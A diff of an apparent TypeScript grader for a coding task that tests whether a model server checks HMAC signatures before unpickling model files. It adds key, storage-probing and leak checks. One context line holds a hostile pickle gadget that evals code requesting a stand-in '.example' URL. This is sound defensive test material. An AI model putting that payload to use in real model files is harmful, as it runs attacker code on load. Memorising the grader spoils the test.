@@ -3,6 +3,8 @@ import type { Act, Build, Judgement, Seen, Step, Surroundings } from '../../../.
 
 export const build: Build = (world) => {
   const { hmac } = world;
+  // As `openssl rand -hex 32` makes them.
+  const hexKey = world.sha256(world.nonce());
   const [key, bucketKey, planted] = [`mk-${world.nonce()}${world.nonce()}${world.nonce()}`, `bk-${world.nonce()}`, `planted-${world.nonce()}`];
   const name = `model-${world.nonce()}`;
   const bait = `https://${world.nonce()}.example/ran`;
@@ -91,12 +93,14 @@ export const build: Build = (world) => {
     }, { env: { MODEL_KEY: oddKey } }),
     {
       // A name as people give them, base64 in lines, thirty labels, and a signature that comes a moment after its model.
-      ...step('odd-but-honest', [], ({ answers }) => {
+      ...step('odd-but-honest', [], ({ answers: all }) => {
+        const [answers, nothing] = [all.slice(0, -1), all.at(-1)];
+        if (nothing?.error === undefined) return { ok: false, got: `${nothing?.text.slice(0, 100)} for a model that is not there, where it raised before` };
         const got = answers.map(({ value, text }) => (value as { label?: unknown } | undefined)?.label ?? text.slice(0, 80));
         const at = Object.values(asked).findIndex((label, index) => got[index] !== label);
         return fails(at >= 0 ? `${String(got[at])} for ${JSON.stringify(Object.keys(asked)[at]!.slice(-40))}` : got.at(-1) !== 'late' && `${String(got.at(-1))}, when the signature of a model had come after the first question`);
-      }, { storage: { 'models/signing.key': bucketKey, [`models/${oddName}.pkl`]: btoa(odd).replace(/.{76}/g, '$&\n'), [`models/${oddName}.sig`]: `${hmac(key, odd)}\n`, 'models/newer.pkl': btoa(late), 'models/newer.sig': hmac(key, odd) }, storageChanges: [{ key: 'models/newer.sig', afterReads: 1, text: hmac(key, late) }] }),
-      calls: [...Object.keys(asked).map((text) => [oddName, text]), ['newer', 'x'], ['newer', 'x']].map((args) => ({ file: 'serve.py', function: 'predict', args })),
+      }, { env: { MODEL_KEY: hexKey }, storage: { 'models/signing.key': bucketKey, [`models/${oddName}.pkl`]: btoa(odd).replace(/.{76}/g, '$&\n'), [`models/${oddName}.sig`]: `${hmac(hexKey, odd)}\n`, 'models/newer.pkl': btoa(late), 'models/newer.sig': hmac(hexKey, odd) }, storageChanges: [{ key: 'models/newer.sig', afterReads: 1, text: hmac(hexKey, late) }] }),
+      calls: [...[...Object.keys(asked).map((text) => [oddName, text]), ['newer', 'x'], ['newer', 'x']].map((args) => ({ file: 'serve.py', function: 'predict', args })), { file: 'models.py', function: 'load_model', args: [`none-${name}`] }],
     },
     step('a-gadget-through-an-object', [
       [`cimportlib\nimport_module\n(Vlab_host\ntR0cbuiltins\neval\n(V__import__("lab_host").call("http.request", {"method": "GET", "url": "${bait}", "headers": {}, "body": None})\ntR.`, 'x'],
@@ -108,7 +112,7 @@ export const build: Build = (world) => {
       ...step('two-in-one', [[honest, hmac(key, honest)]], (seen) => fails(seen.answers.some(({ text }) => text.includes(planted)) && `an answer by the model that lies behind the signed one: ${planted}`), { storage: Object.fromEntries([[honest, evil], [evil, honest]].flatMap((two, at) => ['\n', '', ' ', ','].flatMap((between, turn) => [[`models/${name}${at}${turn}.pkl`, two.map((one) => btoa(one)).join(between)], [`models/${name}${at}${turn}.sig`, hmac(key, honest)]]))) }),
       calls: [0, 1].flatMap((at) => [0, 1, 2, 3].map((turn) => ({ file: 'serve.py', function: 'predict', args: [`${name}${at}${turn}`, 'x'] }))),
     },
-    step('quiet-about-its-key', [[honest, hmac(key, honest)], [evil, hmac(bucketKey, evil)]], ({ printed, answers }) => fails([printed, ...answers.map(({ text }) => text)].some((text) => world.reveals(text, key) || world.reveals(text, hmac(key, evil))) && `its key, or which signature would be right: ${printed.slice(0, 200)} ${answers[1]?.text.slice(0, 200)}`)),
+    step('quiet-about-its-key', [[honest, hmac(key, honest)], [evil, hmac(bucketKey, evil)]], ({ printed, answers }) => fails([printed, ...answers.map(({ text }) => text)].some((text) => world.reveals(text, key) || [hmac(key, evil), ...otherwise(hmac(key, evil))].some((one) => world.reveals(text, one))) && `its key, or which signature would be right: ${printed.slice(0, 200)} ${answers[1]?.text.slice(0, 200)}`)),
     step('an-empty-key', [[exec, hmac('', exec)], [evil, hmac('', evil)]], used, { env: { MODEL_KEY: '' } }),
     // Twice: what was refused once stays refused.
     step('a-digest-for-a-signature', [[evil, 'é'.repeat(64)], [evil, `${signed}é`], [evil, hmac(bucketKey, evil)], [evil, world.sha256(evil)], ...parts], used, {}, bucketKey, 2),
@@ -123,6 +127,17 @@ export const build: Build = (world) => {
     {
       ...step('every-function', [[exec, hmac(bucketKey, exec)]], ran),
       calls: Object.entries(world.files).flatMap(([file, text]) => [...text.matchAll(/^def (\w+)/gm)].map((found) => ({ file, function: found[1] ?? '', args: [`${name}0`] }))).slice(0, 30),
+    },
+    {
+      // Whatever else it looks for in the bucket: it finds a key of the attacker there.
+      ...step('what-it-looks-for', [[evil, hmac(bucketKey, evil)]], used),
+      next: ({ log, storage }) => {
+        const looked = log.flatMap((entry) => (entry.does === 'storage.get' && entry.key !== `models/${name}0.pkl` && entry.key !== `models/${name}0.sig` ? [entry.key] : []));
+        const found = (text: string): Surroundings => ({ storage: { ...storage, ...Object.fromEntries(looked.map((one) => [one, text])) } });
+        if (looked.length === 0) return { calls: [] };
+        return { ...step('', [[evil, hmac(bucketKey, evil)]], used, found(bucketKey)), next: () => step('', [[evil, hmac(bucketKey, evil)]], used, found(world.sha256(evil))) };
+      },
+      judge: (_last, acts) => acts.filter(({ answers }) => answers.length > 0).map(used).find(({ ok }) => !ok) ?? { ok: true },
     },
     each([beside(bucketKey, hmac(bucketKey, evil)), beside(bucketKey, hmac(bucketKey, evil), {}), ...[`${name}0`, world.sha256(evil), JSON.stringify({ [`${name}0`]: world.sha256(evil) }), '1'].map((text) => beside(text, hmac(bucketKey, evil)))]),
     {
@@ -143,6 +158,9 @@ export const build: Build = (world) => {
     each(['', ...texts.slice(0, 1)].map((text) => many('a-key-from-the-code', [...keys.map((one): [string, string] => [evil, hmac(one, evil)]), [evil, hmac('called-so', evil), 'called-so']], { env: {} }, text || bucketKey))),
   ];
 };
+
+/** The bytes of a digest in base64, and as one number. */
+const otherwise = (digest: string): string[] => [btoa(String.fromCharCode(...(digest.match(/../g) ?? []).map((pair) => Number.parseInt(pair, 16)))), BigInt(`0x${digest}`).toString()];
 
 /** Protocol 4: module and name as texts of which every letter is an escape, and a harmless name beside them. */
 function spelt(code: string): string {
